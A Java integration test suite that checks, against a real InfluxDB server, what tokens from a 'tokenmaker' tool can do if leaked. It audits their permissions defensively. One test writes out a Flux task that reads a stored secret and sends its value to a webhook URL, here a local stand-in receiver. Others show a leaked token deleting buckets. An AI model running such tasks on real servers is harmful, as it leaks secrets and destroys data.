import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import influx.ApiException;
import influx.Bucket;
import influx.Dbrp;
import influx.InfluxApi;
import influx.Label;
import influx.Org;
import influx.Permission;
import influx.Task;
import influx.TaskRun;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;

/**
 * The README's table "What a leaked token can do", row by row: each token as tokenmaker makes it,
 * used against the real server for everything the row says it can and cannot do.
 */
class LeakedTokenIT extends RealServerTest {
    private static final String FLUX_PROBE = "option task = {name: \"probe\", every: 1h}\n"
            + "from(bucket: \"app\") |> range(start: -5m) |> yield()\n";

    /** An org with data in "app", a bucket to try to delete, and a secret; tokenmaker's token for the purpose. */
    private record Setup(Org org, Bucket victim, InfluxApi as, Admin data) {}

    private static Setup setUp(String prefix, String purpose) {
        Org org = server.newOrg(prefix);
        api.createBucket(org.id(), "app", 86_400, "");
        admin.write(org.id(), "app", "cpu,host=a usage=42.5 " + (Instant.now().getEpochSecond() - 10));
        admin.putSecrets(org.id(), Map.of("probe_secret", "not-a-real-secret-" + prefix));
        Bucket victim = api.createBucket(org.id(), "victim", 86_400, "");
        String token = ToolResult.run(tokenmaker::new, server.env(org), "--for", purpose, "--json").createdToken();
        return new Setup(org, victim, server.api(token), server.admin(token));
    }

    /** The tasks API answers a create without write:tasks with HTTP 500 "failed to create task: unauthorized". */
    private static void refused(String what, Executable call) {
        ApiException e = assertThrows(ApiException.class, call, what + " was allowed");
        assertTrue(e.isAuthFailure() || (e.status() == 500 && e.getMessage().endsWith(": unauthorized")),
                what + " failed, but not for lack of a permission: " + e.getMessage());
    }

    /** Refused as if the target did not exist: the token may not even see it. */
    private static void hidden(String what, Executable call) {
        ApiException e = assertThrows(ApiException.class, call, what + " was allowed");
        assertEquals(404, e.status(), what + ": " + e.getMessage());
    }

    private static String point() {
        return "leak,host=x value=1 " + (Instant.now().getEpochSecond() - 5);
    }

    private static void tokenCreateRefused(Setup s) {
        refused("creating a token", () -> s.as().createAuthorization(s.org().id(), null, "escalate",
                List.of(Permission.orgScoped("write", "buckets", s.org().id()))));
    }

    /** Another org's bucket is invisible to the token, and cannot be deleted with it. */
    private static void otherOrgsAreOutOfReach(Setup s) {
        Org other = server.newOrg("leak-other");
        Bucket theirs = api.createBucket(other.id(), "theirs", 86_400, "");
        assertTrue(s.as().buckets(other.id()).isEmpty());
        ApiException delete = assertThrows(ApiException.class, () -> s.as().http().delete("/api/v2/buckets/" + theirs.id()));
        assertTrue(delete.isAuthFailure() || delete.isNotFound(), delete.getMessage());
        refused("writing to another org", () -> s.data().write(other.id(), "theirs", point()));
        assertTrue(api.bucket(other.id(), "theirs").isPresent());
    }

    private static boolean hasLeakPoint(Org org) {
        return admin.query(org.id(), "from(bucket: \"app\") |> range(start: -10m) |> filter(fn: (r) => r._measurement == \"leak\")")
                .contains("value");
    }

    @Test
    void taskmakerToken() {
        Setup s = setUp("leak-taskmaker", "taskmaker");
        otherOrgsAreOutOfReach(s);
        Org org = s.org();
        InfluxApi as = s.as();
        refused("deleting a bucket", () -> as.http().delete("/api/v2/buckets/" + s.victim().id()));
        assertTrue(api.bucket(org.id(), "victim").isPresent());
        refused("creating a bucket", () -> as.createBucket(org.id(), "intruder", 3600, ""));
        refused("writing points", () -> s.data().write(org.id(), "app", point()));
        assertFalse(hasLeakPoint(org));
        tokenCreateRefused(s);
        refused("writing a secret", () -> s.data().putSecrets(org.id(), Map.of("probe_secret", "overwritten")));
        refused("deleting the org", () -> as.http().delete("/api/v2/orgs/" + org.id()));

        // What it can do: read every bucket's data, the bucket list and the secret keys; make, change and delete tasks and labels.
        assertTrue(s.data().query(org.id(), "from(bucket: \"app\") |> range(start: -1h)").contains("42.5"));
        assertTrue(as.buckets(org.id()).stream().anyMatch(bucket -> bucket.name().equals("victim")));
        assertTrue(as.secretKeys(org.id()).contains("probe_secret"));
        Task task = as.createTask(org.id(), FLUX_PROBE, "probe");
        as.updateTask(task.id(), FLUX_PROBE.replace("-5m", "-6m"));
        assertTrue(as.tasks(org.id()).stream().anyMatch(listed -> listed.id().equals(task.id())));
        as.deleteTask(task.id());
        assertTrue(api.tasks(org.id()).stream().noneMatch(listed -> listed.id().equals(task.id())));
        Label theirs = api.createLabel(org.id(), "the operator's label", Map.of());
        as.setLabelProperties(theirs.id(), Map.of("color", "#ff0000"));
        as.deleteLabel(theirs.id());
        assertTrue(api.label(org.id(), "the operator's label").isEmpty());

        // Through a task, which runs as the token's user (an org owner): writes points, reads secret values.
        Task copy = as.createTask(org.id(), """
                import "influxdata/influxdb/secrets"
                option task = {name: "through a task", every: 1h}
                value = secrets.get(key: "probe_secret")
                from(bucket: "app") |> range(start: -1h) |> filter(fn: (r) => r._measurement == "cpu")
                    |> set(key: "_measurement", value: "via_task") |> set(key: "read", value: value) |> to(bucket: "app")
                """, "probe");
        TaskRun run = TaskRuns.runToCompletion(as, copy.id(), Duration.ofSeconds(60));
        assertEquals("success", run.status(), String.join("\n", run.log()));
        String written = admin.query(org.id(), "from(bucket: \"app\") |> range(start: -1h) |> filter(fn: (r) => r._measurement == \"via_task\")");
        assertTrue(written.contains("not-a-real-secret-leak-taskmaker"), written);

        // ... and sends a secret's value to any URL it names (here a stand-in webhook on this machine).
        try (SlackReceiver outside = new SlackReceiver()) {
            Task send = as.createTask(org.id(), """
                    import "array"
                    import "slack"
                    import "influxdata/influxdb/secrets"
                    option task = {name: "send out", every: 1h}
                    value = secrets.get(key: "probe_secret")
                    array.from(rows: [{n: 1}])
                        |> map(fn: (r) => ({r with sent: slack.message(url: "%s", token: "", channel: "#out", text: value, color: "good")}))
                        |> yield()
                    """.formatted(outside.url()), "probe");
            TaskRun sent = TaskRuns.runToCompletion(as, send.id(), Duration.ofSeconds(60));
            assertEquals("success", sent.status(), String.join("\n", sent.log()));
            assertEquals(List.of("not-a-real-secret-leak-taskmaker"), outside.messages().stream().map(SlackReceiver.Message::text).toList());
        } catch (java.io.IOException e) {
            throw new AssertionError(e);
        }
    }

    @Test
    void bucketmapperToken() {
        Setup s = setUp("leak-bucketmapper", "bucketmapper");
        otherOrgsAreOutOfReach(s);
        Org org = s.org();
        InfluxApi as = s.as();
        refused("creating a task", () -> as.createTask(org.id(), FLUX_PROBE, "probe"));
        Task theirs = api.createTask(org.id(), FLUX_PROBE, "the operator's");
        assertTrue(as.tasks(org.id()).isEmpty(), "the task listing is filtered to nothing");
        refused("deleting a task", () -> as.http().delete("/api/v2/tasks/" + theirs.id()));
        tokenCreateRefused(s);
        refused("writing a secret", () -> s.data().putSecrets(org.id(), Map.of("probe_secret", "overwritten")));
        refused("reading the secret keys", () -> as.secretKeys(org.id()));

        // What it can do, by InfluxDB's design (the DBRP API checks write on the bucket itself).
        assertTrue(s.data().query(org.id(), "from(bucket: \"app\") |> range(start: -1h)").contains("42.5"));
        s.data().write(org.id(), "app", point());
        assertTrue(hasLeakPoint(org));
        Dbrp mapping = as.createDbrp(org.id(), api.bucket(org.id(), "app").orElseThrow(), "1d");
        assertTrue(as.dbrps(org.id()).stream().anyMatch(listed -> listed.id().equals(mapping.id())));
        as.deleteDbrp(org.id(), mapping.id());
        assertTrue(api.dbrps(org.id()).stream().noneMatch(listed -> listed.id().equals(mapping.id())));
        Bucket made = as.createBucket(org.id(), "intruder", 3600, "");
        as.http().delete("/api/v2/buckets/" + s.victim().id());
        assertTrue(api.bucket(org.id(), "victim").isEmpty(), "the bucket and its data are gone");
        assertTrue(api.bucket(org.id(), "intruder").map(Bucket::id).orElse("").equals(made.id()));
    }

    @Test
    void telegrafToken() {
        Setup s = setUp("leak-telegraf", "telegraf");
        otherOrgsAreOutOfReach(s);
        Org org = s.org();
        InfluxApi as = s.as();
        // A query does not see a bucket it may not read: 404, as if there were none.
        ApiException query = assertThrows(ApiException.class, () -> s.data().query(org.id(), "from(bucket: \"app\") |> range(start: -1h)"));
        assertTrue(query.status() == 404 && query.getMessage().contains("could not find bucket \"app\""), query.getMessage());
        assertTrue(as.buckets(org.id()).isEmpty(), "the bucket listing is filtered to nothing");
        refused("creating a task", () -> as.createTask(org.id(), FLUX_PROBE, "probe"));
        tokenCreateRefused(s);
        // The secrets API looks the org up first, which this token may not read.
        hidden("writing a secret", () -> s.data().putSecrets(org.id(), Map.of("probe_secret", "overwritten")));

        // What it can do: write points to any bucket of the org, and, with the same grant, delete buckets.
        s.data().write(org.id(), "app", point());
        assertTrue(hasLeakPoint(org));
        as.http().delete("/api/v2/buckets/" + s.victim().id());
        assertTrue(api.bucket(org.id(), "victim").isEmpty(), "the bucket and its data are gone");
    }
}
